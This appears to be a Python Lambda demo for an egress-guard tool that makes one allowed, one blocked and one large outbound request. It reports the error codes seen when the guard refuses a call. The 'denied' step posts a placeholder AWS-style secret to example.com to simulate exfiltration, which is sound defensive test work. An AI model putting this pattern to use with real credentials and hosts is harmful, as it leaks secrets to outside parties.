"""Example Lambda function (Python) for egress-guard: one allowed call, one denied call, one big transfer.

The event says which steps to run, in order: {"steps": ["allowed", "denied", "big"]} (the default is all three).
Each step reports what happened from the function's point of view: {step, ok: True, status, bytes} when an HTTP
answer came back (any status: the network call went through), or {step, ok: False, error} where `error` is the
system error name (ENOTFOUND when the guard refused the name lookup, EACCES when it
refused the connection, ECONNREFUSED ...). Nothing here knows about the guard: that is the point.

Targets come from the environment so the same code runs deployed and in `npm run demo` (see ../node/index.mjs).
"""

from __future__ import annotations

import errno
import json
import os
import socket
import urllib.error
import urllib.request
from typing import Any

StepResult = dict[str, str | int | bool]

TARGETS = {
    "allowed": os.environ.get("ALLOWED_URL", "https://api.stripe.com/v1/charges"),
    "denied": os.environ.get("DENIED_URL", "https://example.com/"),
    "big": os.environ.get("BIG_URL", "https://registry.npmjs.org/aws-cdk-lib/-/aws-cdk-lib-2.170.0.tgz"),
}


def _error_code(e: BaseException) -> str:
    """The system error behind a urllib failure, named like Node's codes so both examples read the same."""
    reason = getattr(e, "reason", e)
    if isinstance(reason, socket.gaierror):
        return "ENOTFOUND"
    code = getattr(reason, "errno", None)
    if isinstance(code, int) and code in errno.errorcode:
        return errno.errorcode[code]
    return type(reason).__name__


def _step(name: str) -> StepResult:
    url = TARGETS.get(name)
    if not url:
        return {"step": name, "ok": False, "error": "EUNKNOWNSTEP"}
    # The denied call carries a payload, as an exfiltration attempt would.
    data = json.dumps({"secret": "AKIA-EXAMPLE"}).encode() if name == "denied" else None
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=10) as res:
            size = 0
            while True:
                chunk = res.read(65536)  # count, never hold, the big body
                if not chunk:
                    break
                size += len(chunk)
            return {"step": name, "ok": True, "status": res.status, "bytes": size}
    except urllib.error.HTTPError as e:
        return {"step": name, "ok": True, "status": e.code, "bytes": len(e.read() or b"")}
    except (urllib.error.URLError, OSError) as e:
        return {"step": name, "ok": False, "error": _error_code(e)}


def handler(event: Any, context: Any) -> dict[str, list[StepResult]]:
    steps = event.get("steps") if isinstance(event, dict) else None
    if not isinstance(steps, list):
        steps = ["allowed", "denied", "big"]
    results = [_step(name) for name in steps]
    print(json.dumps({"example": "python", "results": results}), flush=True)
    return {"results": results}
